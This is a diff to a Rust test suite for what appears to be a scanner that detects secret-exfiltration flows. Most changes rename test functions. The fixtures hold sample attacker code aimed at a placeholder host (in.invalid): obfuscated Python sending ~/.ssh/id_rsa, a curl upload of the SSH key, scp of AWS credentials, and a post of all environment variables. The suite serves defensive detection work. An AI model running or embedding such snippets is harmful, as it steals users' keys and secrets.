@@ -90,7 +90,7 @@ fn burdens() -> Vec<(&'static str, String)> {
 }
 
 #[test]
-fn burdens_end_in_time_and_hide_nothing() {
+fn burdened_flows_are_found_in_time() {
     for (name, burden) in burdens() {
         for (path, flow) in FLOWS {
             let start = Instant::now();
@@ -106,7 +106,7 @@ fn burdens_end_in_time_and_hide_nothing() {
 }
 
 #[test]
-fn a_flow_behind_padding_is_found() {
+fn flow_behind_padding_is_found() {
     for (path, flow) in FLOWS {
         for pad in ["\n".repeat(100_000), "# \n".repeat(2_000)] {
             let pad = if path.ends_with(".js") { pad.replace('#', "//") } else { pad };
@@ -118,7 +118,7 @@ fn a_flow_behind_padding_is_found() {
 }
 
 #[test]
-fn a_flow_over_files_is_found() {
+fn flow_across_files_is_found() {
     let python = [
         (
             "scripts/keys.py",
@@ -141,7 +141,7 @@ fn a_flow_over_files_is_found() {
 }
 
 #[test]
-fn names_that_are_split_or_turned_are_read() {
+fn split_and_reversed_names_are_resolved() {
     let split = "import os\nm = __import__('url' + 'lib.re' + 'quest', fromlist=['x'])\np = ''.join(['~/.s', 'sh/id_', 'rsa'])\ngetattr(m, 'url' + 'open')('https://in.invalid', open(os.path.expanduser(p)).read())\n";
     assert!(fires(&scan_files(&[("scripts/a.py", split)]), "flow-secret-sent"));
     let turned =
@@ -156,7 +156,7 @@ fn names_that_are_split_or_turned_are_read() {
 }
 
 #[test]
-fn what_is_too_much_to_follow_is_told() {
+fn analysis_over_budget_is_reported() {
     let calls = "requests.post('https://in.invalid', json=dict(os.environ))\n";
     let files: String = (0..300).map(|n| format!("open('f{n}', 'w').write('x')\n")).collect();
     let same: String = (0..40).map(|n| format!("class C{n}:\n    def send(self, a):\n        return a\n")).collect();
@@ -174,7 +174,7 @@ fn what_is_too_much_to_follow_is_told() {
 }
 
 #[test]
-fn a_script_inside_a_script_is_read() {
+fn script_inside_script_is_read() {
     let python = "import subprocess\nU = 'https://in.invalid/a'\ncmd = f'curl -s -F k=@$HOME/.ssh/id_rsa {U}'\nsubprocess.run(cmd, shell=True)\n";
     assert!(fires(&scan_files(&[("scripts/a.py", python)]), "flow-secret-sent"));
     let words = "import subprocess\nsubprocess.run(['scp', '~/.aws/credentials', 'u@in.invalid:/a'])\n";
